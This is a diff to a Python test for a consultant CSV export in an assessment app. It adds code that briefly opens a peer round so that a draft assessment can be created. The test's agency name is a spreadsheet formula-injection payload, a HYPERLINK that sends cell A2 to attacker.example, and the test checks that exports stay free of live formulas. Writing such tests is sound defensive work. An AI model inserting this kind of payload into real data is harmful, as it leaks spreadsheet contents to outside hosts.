@@ -14,6 +14,7 @@ from sqlalchemy.orm import Session
 
 from assessment.domain.rules.benchmark import PeerGroup
 from assessment.services import assessments, benchmarking, export
+from assessment.services.rounds import set_round_open
 from assessment.store.models import Agency, User
 from tests.web.helpers import login
 from tests.web.peer_world import PEERS, Peers
@@ -263,7 +264,10 @@ def test_round_downloads_hold_no_live_formula(
 ) -> None:
     name = '=HYPERLINK("http://attacker.example/?"&A2,"Open")'
     agency = create_agency(name=name)
+    # The peer rounds are closed once seeded; a draft needs the round open for a moment.
+    set_round_open(session, round_id=peers.latest.id, is_open=True, actor=None)
     assessments.start_assessment(session, agency_id=agency.id, round_id=peers.latest.id, actor=None)
+    set_round_open(session, round_id=peers.latest.id, is_open=False, actor=None)
     login(client, peers.consultant)
 
     csv_body = client.get(f"/consultant/rounds/{peers.latest.id}/export.csv").get_data(True)
